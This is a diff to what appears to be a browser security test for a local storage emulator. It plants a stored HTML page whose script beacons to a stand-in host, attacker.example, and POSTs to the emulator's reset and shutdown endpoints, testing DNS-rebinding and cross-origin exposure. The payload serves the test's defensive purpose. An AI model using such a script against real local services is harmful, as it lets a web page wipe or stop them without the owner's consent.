@@ -11,7 +11,8 @@ import { accountSas, everything, Naive, SECRETS } from "./victims.mjs";
 // Names that lead to this machine: one whose page is a stranger's, one that was rebound, one of ours without the
 // privileges of localhost, where browsers say nothing of the page that asks.
 const NAMES = ["attacker.example", "rebound.example", "emulator.test"];
-const BLANK = "<!doctype html><title>page</title><body></body>";
+// With an icon, for which the browser would else ask.
+const BLANK = '<!doctype html><link rel="icon" href="data:,"><title>page</title><body></body>';
 const FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
   "--disable-component-update", "--disable-sync",
   // Browsers begin to guard the machine themselves; it must not depend on them.
@@ -26,7 +27,7 @@ before(async () => {
   emulator = await Emulator.start("--clock", "frozen", "--create-queue", "notifications", "--create-container", "pages");
   sas = accountSas(emulator.connectionString);
   blob = `${emulator.ready.endpoints.blob}/pages/stored.html?${sas}`;
-  await put(blob, "text/html", `<body><script>
+  await put(blob, "text/html", `<link rel="icon" href="data:,"><body><script>
     navigator.sendBeacon("http://attacker.example:${naive.port}/ran");
     for (const path of ["reset", "shutdown"]) fetch("/_emulator/" + path, { method: "POST" });
   </script></body>`);
